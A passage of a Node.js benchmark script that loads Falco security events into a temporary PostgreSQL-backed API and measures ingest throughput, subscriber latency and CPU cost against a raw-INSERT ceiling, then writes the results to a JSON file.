  return { text: `INSERT INTO falco_events (${columnList}) VALUES ${tuples.join(", ")}`, values };
}

/** One batch as a single JSON parameter, expanded by jsonb_to_recordset. */
function recordsetInsert(rows) {
  // output_fields is JSON text already: spliced in as it is
  const last = COLUMNS.length - 1;
  const json = `[${rows
    .map((r) => {
      const record = JSON.stringify(Object.fromEntries(COLUMNS.slice(0, last).map(([c], i) => [c, r[KEYS[i]]])));
      return `${record.slice(0, -1)},"${COLUMNS[last][0]}":${r[KEYS[last]]}}`;
    })
    .join(",")}]`;
  const types = COLUMNS.map(([c, type]) => `"${c}" ${type}`).join(", ");
  return {
    text: `INSERT INTO falco_events (${columnList}) SELECT ${columnList} FROM jsonb_to_recordset($1::jsonb) AS r(${types})`,
    values: [json],
  };
}

/** Raw batched INSERTs of `rows` on one connection; returns rows per second, then deletes them. */
async function ceiling(pg, url, rows, batch, build) {
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  try {
    const began = performance.now();
    const cpu = process.cpuUsage();
    for (let i = 0; i < rows.length; i += batch) await client.query(build(rows.slice(i, i + batch)));
    const seconds = (performance.now() - began) / 1000;
    const { user, system } = process.cpuUsage(cpu);
    for (let i = 0; i < rows.length; i += 5000)
      await client.query("DELETE FROM falco_events WHERE id = ANY($1::uuid[])", [
        rows.slice(i, i + 5000).map((r) => r.id),
      ]);
    return {
      rows: rows.length,
      batch,
      seconds: Math.round(seconds * 1000) / 1000,
      rowsPerSecond: Math.round(rows.length / seconds),
      // building the statements and talking to PostgreSQL, in this process
      clientCpuMicrosPerRow: Math.round((user + system) / rows.length),
    };
  } finally {
    await client.end();
  }
}

async function orchestrate() {
  if (!existsSync(main)) {
    console.error(`${main} is missing; build the api first: pnpm --filter @bulwark/api build`);
    process.exit(1);
  }
  if (args.client !== "raw" && args.client !== "node") {
    console.error(`--client is raw or node, not ${args.client}`);
    process.exit(1);
  }
  const pg = requireApi("pg");
  const seconds = Number(args.seconds);
  const concurrencies = args.concurrency.split(",").map(Number);
  const rate = Number(args.rate);
  const pacedSeconds = Number(args["paced-seconds"]);
  const ceilingRows = Number(args["ceiling-rows"]);
  const batch = Number(args.batch);
  const base = process.env.BENCH_DATABASE_URL ?? "postgres://postgres@127.0.0.1:5432/postgres";
  const redisUrl = args.redis ? (process.env.BENCH_REDIS_URL ?? "redis://127.0.0.1:6379") : undefined;
  const bootstrapKey = `bench-${randomBytes(24).toString("hex")}`;
  const run = randomBytes(4).toString("hex");
  const loadAverageStart = os.loadavg();

  const dbName = `bulwark_bench_${randomBytes(4).toString("hex")}`;
  const admin = new pg.Client({ connectionString: base });
  await admin.connect();
  await admin.query(`CREATE DATABASE ${dbName}`);
  await admin.end();
  const dbUrl = new URL(base);
  dbUrl.pathname = `/${dbName}`;
  const databaseUrl = dbUrl.toString();

  const profileDir = join(here, "results", "falco-ingest-profile");
  if (args["cpu-prof"]) {
    rmSync(profileDir, { recursive: true, force: true });
    mkdirSync(profileDir, { recursive: true });
  }
  const api = spawn(
    process.execPath,
    [...apiFlags, ...(args["cpu-prof"] ? ["--cpu-prof", `--cpu-prof-dir=${profileDir}`] : []), main],
    {
      env: {
        PATH: process.env.PATH,
        HOST: "127.0.0.1",
        PORT: "0",
        DATABASE_URL: databaseUrl,
        ...(redisUrl ? { REDIS_URL: redisUrl } : {}),
        BULWARK_SECRET_KEY: randomBytes(32).toString("hex"),
        BULWARK_LOG_LEVEL: "warn",
        BULWARK_BOOTSTRAP_API_KEY: bootstrapKey,
        BULWARK_ADMIN_PASSWORD: "bench-password-123",
      },
      stdio: ["ignore", "pipe", "pipe"],
    },
  );
  let output = "";
  const keep = (chunk) => {
    output += chunk;
    if (output.length > 200_000) output = output.slice(-100_000);
  };
  api.stdout.on("data", keep);
  api.stderr.on("data", keep);
  const apiExited = new Promise((resolve) => api.on("exit", resolve));

  let loadProcess = null;
  let subscriber = null;
  const others = [];
  const out = {
    name: "falco-ingest",
    date: new Date().toISOString(),
    nodeVersion: process.version,
    cpus: os.availableParallelism(),
    cpuModel: os.cpus()[0]?.model ?? "unknown",
    database: "PostgreSQL",
    pubsub: redisUrl ? "redis" : "memory",
    subscribers: Number(args.subscribers),
    apiBuiltAt: newestFileTime(dirname(main)),
    apiNodeFlags: apiFlags.join(" "),
    loadClient: args.client,
    loadAverageStart,
  };
  try {
    const port = await new Promise((resolve, reject) => {
      const timer = setInterval(() => {
        const match = /running at http:\/\/[^:]+:(\d+)/.exec(output);
        if (match) {
          clearInterval(timer);
          resolve(Number(match[1]));
        }
      }, 50);
      api.on("exit", (code) => {
        clearInterval(timer);
        reject(new Error(`api exited (${code}):\n${output}`));
      });
    });
    const url = `http://127.0.0.1:${port}`;
    const { createCluster } = await graphql(
      url,
      bootstrapKey,
      `
        mutation {
          createCluster(input: { name: "bench" }) {
            id
          }
        }
      `,
    );
    const clusterId = createCluster.id;
    const { createApiKey } = await graphql(
      url,
      bootstrapKey,
      `
        mutation ($c: ID!) {
          createApiKey(input: { name: "falcosidekick", scopes: [falco_ingest], clusterId: $c }) {
            secret
          }
        }
      `,
      { c: clusterId },
    );
    const path = `/api/falco/${clusterId}/create?key=${encodeURIComponent(createApiKey.secret)}`;

    // The first subscriber is timed; any others only add the cost of more open live tables.
    subscriber = subscribe(port, bootstrapKey, clusterId);
    for (let i = 1; i < Number(args.subscribers); i++) others.push(subscribe(port, bootstrapKey, clusterId));
    loadProcess = fork(SELF, ["--role", "load"], {
      stdio: ["ignore", "inherit", "inherit", "ipc"],
      serialization: "advanced",
    });
    loadProcess.send({ port, path, run, client: args.client });
    await once(loadProcess, (m) => m.ready);

    const templates = eventTemplates();
    const sampleBodies = Array.from({ length: 200 }, (_, i) => renderEvent(templates, run, i));
    out.averageEventBytes = Math.round(
      sampleBodies.reduce((s, b) => s + Buffer.byteLength(b), 0) / sampleBodies.length,
    );
    console.log(
      `falco ingest (PostgreSQL, ${out.pubsub} pubsub, ${out.subscribers} subscriber${out.subscribers === 1 ? "" : "s"}): events of ${TEMPLATES} shapes (avg ${out.averageEventBytes} bytes), one per request; ${os.availableParallelism()} cores, load average ${loadAverageStart.map((l) => l.toFixed(2)).join(", ")}`,
    );

    let acknowledged = 0;
    const phase = async (command) => {
      const batchesBefore = await batches(url);
      const apiCpu = processCpuMs(api.pid);
      const pgCpu = postgresCpuMs();
      loadProcess.send(command);
      const { result } = await once(loadProcess, (m) => m.result);
      const apiCpuMs = processCpuMs(api.pid) - apiCpu;
      const pgCpuMs = postgresCpuSince(pgCpu);
      const batchesAfter = await batches(url);
      const batchCount = batchesAfter.count - batchesBefore.count;
      acknowledged += result.acked;
      const delivered = await deliveries(result, subscriber);
      const { sentAt: _s, ackedAt: _a, seqStart: _q, ...rest } = result;
      return {
        ...rest,
        ...delivered,
        apiCpuMicrosPerEvent: result.acked ? Math.round((apiCpuMs * 1000) / result.acked) : null,
        postgresCpuMicrosPerEvent: result.acked ? Math.round((pgCpuMs * 1000) / result.acked) : null,
        loadCpuMicrosPerEvent: result.acked
          ? Math.round((result.loadCpuMsPerSecond * result.seconds * 1000) / result.acked)
          : null,
        apiCpuMsPerSecond: Math.round(apiCpuMs / result.seconds),
        postgresCpuMsPerSecond: Math.round(pgCpuMs / result.seconds),
        batches: Number.isNaN(batchCount) ? null : batchCount,
        averageBatch:
          batchCount > 0 ? Math.round(((batchesAfter.events - batchesBefore.events) / batchCount) * 10) / 10 : null,
        loadAverage: os.loadavg(),
      };
    };
    const line = (label, r) =>
      console.log(
        `  ${label}: ${r.eventsPerSecond} events/s stored (${r.acked} of ${r.sent}${Object.keys(r.statuses).length > 1 || !r.statuses[201] ? `, statuses ${JSON.stringify(r.statuses)}` : ""}); POST→201 p50 ${r.postTo201.p50Ms} ms, p99 ${r.postTo201.p99Ms} ms; ${r.postToSubscriber.count ? `POST→subscriber p50 ${r.postToSubscriber.p50Ms} ms, p99 ${r.postToSubscriber.p99Ms} ms` : "none reached the subscriber"}${r.postToSubscriber.missing && r.postToSubscriber.count ? `, ${r.postToSubscriber.missing} never arrived` : ""}; CPU per event: api ${r.apiCpuMicrosPerEvent} µs, PostgreSQL ${r.postgresCpuMicrosPerEvent} µs, load generator ${r.loadCpuMicrosPerEvent} µs${r.averageBatch ? `; ${r.averageBatch} events a batch` : ""}`,
      );

    out.warmup = await phase({ closed: 3, concurrency: 32 });
    line("warm-up (32 concurrent, 3 s)", out.warmup);
    if (!out.warmup.acked) throw new Error(`no event was stored: ${JSON.stringify(out.warmup.samples)}`);
    if (subscriber.state.error || subscriber.state.delivered === 0) {
      // Throughput is still measured; the delivery targets are then not met.
      out.subscriptionError = subscriber.state.error ?? "no event arrived";
      console.log(`  the subscriber received nothing: ${out.subscriptionError}`);
    }

    out.paced = await phase({ open: pacedSeconds, rate });
    out.paced.rate = rate;
    line(`paced (${rate} events/s, ${pacedSeconds} s)`, out.paced);

    out.bursts = [];
    for (const concurrency of concurrencies) {
      await new Promise((r) => setTimeout(r, 1000));
      const burst = { concurrency, ...(await phase({ closed: seconds, concurrency })) };
      out.bursts.push(burst);
      line(`burst, ${String(concurrency).padStart(3)} concurrent`, burst);
    }
    const best = out.bursts.reduce((a, b) => (b.eventsPerSecond > a.eventsPerSecond ? b : a));
    out.best = {
      concurrency: best.concurrency,
      eventsPerSecond: best.eventsPerSecond,
      postToSubscriberP99Ms: best.postToSubscriber.p99Ms,
    };

    const db = new pg.Client({ connectionString: databaseUrl });
    await db.connect();
    const { rows } = await db.query(
      "SELECT count(*)::int AS stored, count(DISTINCT uuid)::int AS distinct_uuids FROM falco_events WHERE cluster_id = $1",
      [clusterId],
    );
    await db.end();
    out.stored = {
      acknowledged,
      stored: rows[0].stored,
      distinctUuids: rows[0].distinct_uuids,
      equal: rows[0].stored === acknowledged && rows[0].distinct_uuids === acknowledged,
      subscriberDeliveries: subscriber.state.delivered,
      subscriberDuplicates: subscriber.state.duplicates,
      ...(others.length ? { otherSubscribersDeliveries: others.map((o) => o.state.delivered) } : {}),
    };
    console.log(
      `  stored ${out.stored.stored} (${out.stored.distinctUuids} distinct uuids), acknowledged ${acknowledged} → ${out.stored.equal ? "equal" : "NOT equal"}; the subscriber received ${subscriber.state.delivered}${subscriber.state.duplicates ? ` (${subscriber.state.duplicates} twice)` : ""}`,
    );

    await subscriber.close();
    subscriber = null;
    await Promise.all(others.splice(0).map((o) => o.close()));
    loadProcess.kill();
    loadProcess = null;
    api.kill("SIGTERM");
    await apiExited;

    // The ceiling: the same rows, straight into the table, with the api stopped.
    const check = new pg.Client({ connectionString: databaseUrl });
    await check.connect();
    const columns = await check.query(
      "SELECT column_name FROM information_schema.columns WHERE table_name = 'falco_events' ORDER BY column_name",
    );
    await check.end();
    const actual = columns.rows.map((r) => r.column_name);
    const expected = COLUMNS.map(([c]) => c).sort();
    if (actual.join() !== expected.join())
      throw new Error(`falco_events has columns ${actual.join(", ")}; the ceiling writes ${expected.join(", ")}`);
    const ceilingPayloads = Array.from({ length: ceilingRows }, (_, i) =>
      JSON.parse(renderEvent(templates, `c${run.slice(1)}`, i)),
    );
    const ceilingRowsBuilt = ceilingPayloads.map((p) => rowOf(p, clusterId));
    const unnest = await ceiling(pg, databaseUrl, ceilingRowsBuilt, batch, unnestInsert);
    for (const r of ceilingRowsBuilt) r.id = randomUUID();
    const multiRow = await ceiling(pg, databaseUrl, ceilingRowsBuilt, batch, valuesInsert);
    for (const r of ceilingRowsBuilt) r.id = randomUUID();
    const recordset = await ceiling(pg, databaseUrl, ceilingRowsBuilt, batch, recordsetInsert);
    out.ceiling = {
      unnest,
      multiRow,
      recordset,
      eventsPerSecond: Math.max(unnest.rowsPerSecond, multiRow.rowsPerSecond, recordset.rowsPerSecond),
    };
    console.log(
      `  ceiling (raw INSERTs on one connection, ${batch} rows a statement): unnest ${unnest.rowsPerSecond} rows/s (client CPU ${unnest.clientCpuMicrosPerRow} µs a row), multi-row VALUES ${multiRow.rowsPerSecond} rows/s (${multiRow.clientCpuMicrosPerRow} µs), one jsonb_to_recordset parameter ${recordset.rowsPerSecond} rows/s (${recordset.clientCpuMicrosPerRow} µs)`,
    );

    out.ratio = Math.round((best.eventsPerSecond / out.ceiling.eventsPerSecond) * 1000) / 1000;
    out.loadAverageEnd = os.loadavg();
    out.targets = {
      eventsPerSecond: TARGET_EVENTS_PER_SECOND,
      ratio: TARGET_RATIO,
      postToSubscriberP99Ms: TARGET_P99_MS,
    };
    out.met = {
      eventsPerSecond: best.eventsPerSecond >= TARGET_EVENTS_PER_SECOND,
      ratio: out.ratio >= TARGET_RATIO,
      pacedP99:
        out.paced.postToSubscriber.p99Ms !== null &&
        out.paced.postToSubscriber.p99Ms <= TARGET_P99_MS &&
        out.paced.postToSubscriber.missing === 0,
      burstP99:
        best.postToSubscriber.p99Ms !== null &&
        best.postToSubscriber.p99Ms <= TARGET_P99_MS &&
        best.postToSubscriber.missing === 0,
      storedEqualsAcknowledged: out.stored.equal,
    };
    const verdict = (ok) => (ok ? "met" : "NOT met");
    console.log(
      `  best: ${best.eventsPerSecond} events/s at ${best.concurrency} concurrent (target ≥ ${TARGET_EVENTS_PER_SECOND}: ${verdict(out.met.eventsPerSecond)}); ratio to the ceiling ${out.ratio} (target ≥ ${TARGET_RATIO}: ${verdict(out.met.ratio)})`,
    );
    console.log(
      `  POST→subscriber p99: paced ${out.paced.postToSubscriber.p99Ms} ms (${verdict(out.met.pacedP99)}), best burst ${best.postToSubscriber.p99Ms} ms (${verdict(out.met.burstP99)}); target ≤ ${TARGET_P99_MS} ms`,
    );
    console.log(
      `  load average: ${loadAverageStart.map((l) => l.toFixed(2)).join(", ")} at the start, ${out.loadAverageEnd.map((l) => l.toFixed(2)).join(", ")} at the end, on ${os.availableParallelism()} cores`,
    );
    const warnings = output
      .split("\n")
      .filter((l) => /"level":(40|50|60)/.test(l))
      .slice(0, 5);
    if (warnings.length) {
      out.apiWarnings = warnings;
      console.log(`  the api logged warnings or errors, first: ${warnings[0].slice(0, 300)}`);
    }
    if (args["cpu-prof"]) {
      out.cpuProfileDir = profileDir;
      console.log(`  CPU profile of the api: ${profileDir}`);
    }
    mkdirSync(join(here, "results"), { recursive: true });
    const file = `falco-ingest${redisUrl ? "-redis" : ""}.json`;
    writeFileSync(join(here, "results", file), `${JSON.stringify(out, null, 2)}\n`);
    console.log(`  results: bench/results/${file}`);
  } catch (error) {
    console.error(`api output (tail):\n${output.slice(-4000)}`);
    throw error;
  } finally {
    if (subscriber) await subscriber.close();
    await Promise.all(others.map((o) => o.close()));
    loadProcess?.kill();
    if (api.exitCode === null && api.signalCode === null) {
      api.kill("SIGTERM");
      await apiExited;
    }
    const cleanup = new pg.Client({ connectionString: base });
    await cleanup.connect();
    await cleanup.query(`DROP DATABASE IF EXISTS ${dbName} WITH (FORCE)`);
    await cleanup.end();
  }
}

if (args.role === "load") await load();
else await orchestrate();
